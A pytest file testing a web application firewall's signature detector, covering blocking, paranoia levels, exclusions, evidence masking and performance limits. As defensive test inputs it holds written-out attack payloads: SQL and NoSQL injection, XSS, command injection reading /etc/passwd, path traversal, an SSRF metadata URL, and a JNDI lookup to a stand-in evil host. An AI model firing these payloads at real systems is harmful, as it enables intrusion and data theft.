"""The signatures detector in the engine: scoring, paranoia, observe, exclusions, evidence, speed bounds."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from bastion.detect.signatures.detector import SignaturesDetector, mask_evidence
from bastion.detect.signatures.settings import SignaturesConfig
from bastion.detect.signatures.zones import Value
from bastion.errors import ConfigError
from bastion.testing import inspect_request, make_config, make_pipeline, run_request, run_response

JSON = {"Content-Type": "application/json"}


def pipeline(**signatures: Any):  # type: ignore[no-untyped-def]
    return make_pipeline({"signatures": signatures} if signatures else None, only={"signatures"})


def test_on_by_default_in_the_registry() -> None:
    p = make_pipeline(make_config(), only={"signatures"})
    assert [d.name for d in p.detectors] == ["signatures"]


@pytest.mark.parametrize(
    ("target", "body", "rule"),
    [
        ("/search?q=1%27%20OR%20%271%27%3D%271", b"", "942"),
        ("/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users", b"", "942110"),
        ("/c", b'{"comment": "<script>alert(1)</script>"}', "941110"),
        ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", b"", "93"),
        ("/f?file=../../../../etc/passwd", b"", "930"),
        ("/hook", b'{"url": "http://169.254.169.254/latest/meta-data/"}', "931"),
        ("/login", b'{"user": "admin", "password": {"$ne": null}}', "934100"),
        ("/render?t=%7B%7B7*7%7D%7D", b"", "934120"),
        ("/x", b'{"name": "${jndi:ldap://evil.example/a}"}', "944100"),
    ],
)
async def test_attacks_are_blocked_with_the_default_config(target: str, body: bytes, rule: str) -> None:
    p = pipeline()
    ex, verdict = await inspect_request(p, "POST" if body else "GET", target, headers=JSON if body else None,
                                        body=body)
    assert verdict.blocks and verdict.status == 403
    assert any(f.rule_id.startswith(rule) for f in ex.findings), [f.rule_id for f in ex.findings]


@pytest.mark.parametrize(
    "doc",
    [
        {"name": "Seán O'Brien", "bio": "I select the best wines and drop by on Sundays -- cheers!"},
        {"comment": "Use `ls -la` to list files, then run:\ncurl -s https://example.com/install.sh"},
        {"md": "**Bold** [docs](https://example.com/a?b=1&c=2) <b>hi</b> <img src=\"https://x.io/a.png\">"},
        {"query": "how to order by date in excel", "email": "a.b+c@example.co.uk"},
        {"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"},
        {"text": "Привет, как дела? 你好 🌍 — naïve café", "tags": ["select", "drop", "union"]},
    ],
)
async def test_ordinary_api_traffic_passes(doc: dict[str, Any]) -> None:
    p = pipeline()
    verdict = await run_request(p, "POST", "/api/posts", headers=JSON, body=json.dumps(doc).encode())
    assert not verdict.blocks


async def test_finding_names_zone_parameter_and_masked_evidence() -> None:
    p = pipeline()
    body = json.dumps({"user": {"bio": "x' UNION SELECT password FROM users--"}}).encode()
    ex, _ = await inspect_request(p, "POST", "/u", headers=JSON, body=body)
    f = next(f for f in ex.findings if f.rule_id == "942110")
    assert (f.zone, f.name) == ("json", "user.bio")
    assert "UNION SELECT" in f.evidence and len(f.evidence) <= 64
    assert "sqli" in f.tags and "paranoia-level/1" in f.tags


def test_evidence_of_secret_fields_is_masked() -> None:
    assert "chars" in mask_evidence("' or 1=1", Value("args", "form", "password", "' or 1=1"))
    assert mask_evidence("a\x00b", Value("args", "form", "q", "a\x00b")) == "a\\x00b"


async def test_stricter_levels_observe_when_detection_paranoia_is_higher() -> None:
    # 942300 (PL2) fires on this; at paranoia 1 / detection 2 it is an observe-only finding.
    p = pipeline(paranoia=1, detection_paranoia=2)
    ex, verdict = await inspect_request(p, "GET", "/?q=%27%20or%20%27a%27%3D%27a")
    assert verdict.blocks  # the PL1 rules still score
    observed = [f for f in ex.findings if f.observe]
    assert observed and all(f.rule_id in ("942300", "942310") or f.tags[1] != "paranoia-level/1" for f in observed)
    assert all(not f.observe for f in ex.findings if "paranoia-level/1" in f.tags)


async def test_observe_rule_list_and_disabled_rules() -> None:
    target = "/?q=%3Cscript%3Ealert(1)%3C/script%3E"
    p = pipeline(observe_rules=["xss"])
    ex, verdict = await inspect_request(p, "GET", target)
    assert not verdict.blocks and ex.findings and all(f.observe for f in ex.findings)
    p = pipeline(disabled_rules=["941*"])
    ex, verdict = await inspect_request(p, "GET", target)
    assert not any(f.rule_id.startswith("941") for f in ex.findings)


async def test_exclusion_for_one_parameter_of_one_endpoint() -> None:
    body = json.dumps({"html": "<script>alert(1)</script>", "title": "<script>alert(2)</script>"}).encode()
    p = pipeline(exclusions=[{"path": "/api/pages/*", "param": "html", "rule": "xss"}])
    ex, verdict = await inspect_request(p, "POST", "/api/pages/7", headers=JSON, body=body)
    assert verdict.blocks  # title is not excluded
    assert {f.name for f in ex.findings if f.rule_id.startswith("941")} == {"title"}
    only_html = json.dumps({"html": "<script>alert(1)</script>"}).encode()
    assert not (await run_request(p, "POST", "/api/pages/7", headers=JSON, body=only_html)).blocks
    assert (await run_request(p, "POST", "/api/other", headers=JSON, body=only_html)).blocks


async def test_response_leaks_are_scored_on_the_outbound_side() -> None:
    p = pipeline()
    ex, verdict = await inspect_request(p, "GET", "/items?id=1")
    assert not verdict.blocks
    v = await run_response(p, ex, 500, headers={"Content-Type": "text/html"},
                           body="<b>Warning</b>: mysql_fetch_array(): You have an error in your SQL syntax")
    assert v.blocks and v.status == 502


def test_response_hook_absent_without_response_rules() -> None:
    det = SignaturesDetector(SignaturesConfig(inspect_response=False))
    assert det.response_body is None


def test_detection_paranoia_below_paranoia_is_a_config_error() -> None:
    with pytest.raises(ConfigError):
        make_config({"signatures": {"paranoia": 3, "detection_paranoia": 2}})


def test_engines_agree_on_mixed_values() -> None:
    hs = SignaturesDetector(SignaturesConfig(paranoia=4))
    py = SignaturesDetector(SignaturesConfig(paranoia=4, engine="python"))
    samples = ["1' or '1'='1", "<svg/onload=alert(1)>", "; cat /etc/passwd", "hello world", "O'Brien",
               "${jndi:ldap://x/a}", "../../etc/passwd", "{{7*7}}", "plain é text", "a\nb\r\nc"]
    for s in samples:
        vals = [Value("args", "query", "q", s), Value("headers", "header", "user-agent", s)]
        a = sorted(h.rule.rule.id for h in hs.inspect_values(vals))
        vals = [Value("args", "query", "q", s), Value("headers", "header", "user-agent", s)]
        b = sorted(h.rule.rule.id for h in py.inspect_values(vals))
        assert a == b, s


@pytest.mark.parametrize(
    "value",
    [
        "'" * 20000,
        "select " * 5000,
        "<a " * 8000,
        "%25" * 8000,
        "${" * 8000,
        "/../" * 8000,
        "a" * 60000,
        "{{" + "7*" * 10000,
        "; " * 10000,
    ],
)
def test_hostile_values_cost_milliseconds_not_seconds(value: str) -> None:
    det = SignaturesDetector(SignaturesConfig(paranoia=4))
    start = time.perf_counter()
    det.inspect_values([Value("args", "query", "q", value), Value("body", "body", "", value)])
    # Linear work: a quadratic pattern takes many seconds on these (measured before the caps).
    assert time.perf_counter() - start < 3.0


def test_a_failing_confirm_step_does_not_blind_other_rules() -> None:
    det = SignaturesDetector(SignaturesConfig())

    def broken(_text: str) -> str | None:
        raise ValueError("checker bug")

    for cr in det.request_matcher.rules:
        if cr.confirm is not None:
            cr.confirm = broken
    hits = det.inspect_values([Value("args", "query", "q", "1' UNION SELECT password FROM users--")])
    assert "942110" in {h.rule.rule.id for h in hits}


async def test_payload_nested_deeper_than_the_walk_is_still_inspected() -> None:
    """Past the JSON walk's depth limit the subtree is inspected as one text; serialising it
    (which fails past ~255 levels) once let a 300-deep payload through unchecked."""
    from bastion.testing import inspect_request, make_pipeline

    p = make_pipeline(only={"signatures"})
    for depth in (300, 900):
        body = ("[" * depth + '"1\' UNION SELECT password FROM users --"' + "]" * depth).encode()
        headers = [("Host", "a"), ("Content-Type", "application/json")]
        ex, verdict = await inspect_request(p, "POST", "/api", headers=headers, body=body)
        assert verdict.blocks and not ex.errors, depth


async def test_a_bulk_body_full_of_quotes_is_inspected_not_refused() -> None:
    """6,000 strings with apostrophes set off thousands of pattern events (past MAX_EVENTS): each is
    still attributed to its value, so the bulk import passes and a payload anywhere in it (past the
    1,024 values joined into the overflow, anchored at its value's start) is found."""
    import orjson

    from bastion.detect.signatures.matcher import _hs
    from bastion.testing import inspect_request, make_pipeline

    if _hs is None:
        pytest.skip("hyperscan not installed: the pure-Python matcher has no event attribution")
    p = make_pipeline(only={"signatures"})
    headers = [("Host", "a"), ("Content-Type", "application/json")]
    names = [f"it's {i}'s" for i in range(6000)]
    start = time.process_time()
    ex, verdict = await inspect_request(p, "POST", "/api", headers=headers, body=orjson.dumps(names))
    assert not verdict.blocks and not ex.findings
    assert time.process_time() - start < 1.0  # ~30 ms measured; the refusal path took ~15 ms
    for payload, family in (("sleep(5)", "942"), ("; cat /etc/passwd", "932"), ("1' OR '1'='1' --", "942")):
        body = orjson.dumps([*names[:3000], payload, *names[3000:]])
        ex, verdict = await inspect_request(p, "POST", "/api", headers=headers, body=body)
        assert verdict.blocks and any(f.rule_id.startswith(family) for f in ex.findings), payload


async def test_a_json_body_cut_at_the_inspection_limit_is_inspected_not_refused() -> None:
    """A JSON body longer than limits.inspect_body_bytes is inspected as text (its prefix does not
    parse): every `",` starts a SQL trigger. Thousands of events, two candidate rules, no refusal."""
    import orjson

    from bastion.detect.signatures.matcher import _hs
    from bastion.testing import make_exchange, make_pipeline, run_exchange

    if _hs is None:
        pytest.skip("hyperscan not installed: the pure-Python matcher has no event attribution")
    # (a cut body is refused by the protocol detector unless limits.uninspected_body is `pass`)
    p = make_pipeline({"limits": {"inspect_body_bytes": 65536, "uninspected_body": "pass"}}, only={"signatures"})
    orders = [{"id": f"ord_{i:06d}", "name": ["Ann O'Neil", "Bob & Co", "Dan <dan@x.io>"][i % 3],
               "lines": [{"sku": f"SKU-{i}-{j}", "qty": j + 1} for j in range(4)]} for i in range(600)]
    for extra, blocks in (({}, False), ({"note": "1' OR '1'='1' --"}, True)):
        doc = {"orders": [*orders[:300], extra, *orders[300:]]}
        body = orjson.dumps(doc)
        assert len(body) > p.config.limits.inspect_body_bytes > body.find(b"OR '1'") > 0 or not extra
        ex = make_exchange("POST", "/api", headers=[("Host", "a"), ("Content-Type", "application/json")],
                           body=body, host=None, pipeline=p, inspect_bytes=p.config.limits.inspect_body_bytes)
        verdict = await run_exchange(p, ex)
        assert ex.request.body_truncated
        assert verdict.blocks is blocks and "signatures-budget" not in {f.rule_id for f in ex.findings}


def test_past_the_event_budget_the_request_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past EVENT_BUDGET events attribution is given up; every rule is checked on every value within
    CONFIRM_BUDGET, and a request that exhausts it is reported (refused), never let through half-read."""
    from bastion.detect.signatures import matcher

    if matcher._hs is None:
        pytest.skip("hyperscan not installed")
    det = SignaturesDetector(SignaturesConfig())
    quotes = "'-" * 30000
    det.inspect_values([Value("args", "json", "x", quotes)])
    assert not det.request_matcher.exhausted  # 30,000 events: attributed, inspected
    monkeypatch.setattr(matcher, "EVENT_BUDGET", 1000)
    monkeypatch.setattr(matcher, "CONFIRM_BUDGET", 100_000)
    det.inspect_values([Value("args", "json", "x", quotes)])
    assert det.request_matcher.exhausted
